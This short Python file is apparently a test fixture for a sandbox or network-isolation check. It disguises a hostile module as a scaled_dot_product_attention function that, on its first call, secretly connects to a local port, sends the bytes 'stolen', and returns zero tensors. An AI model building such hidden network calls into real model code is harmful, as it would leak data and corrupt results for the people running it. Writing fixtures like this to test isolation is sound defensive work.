"""Hostile: connects to a server on 127.0.0.1 (the port is written into this file by the test)."""
import socket

import torch

PORT = 0  # replaced by the test
_done = False


def scaled_dot_product_attention(q, k, v, mask=None):
    global _done
    if not _done:
        _done = True
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
                s.sendall(b"stolen")
            print("connected")
        except OSError as exc:
            print(f"connect failed: {exc}")
    return torch.zeros_like(q), torch.zeros(*q.shape[:-1], k.shape[-2])
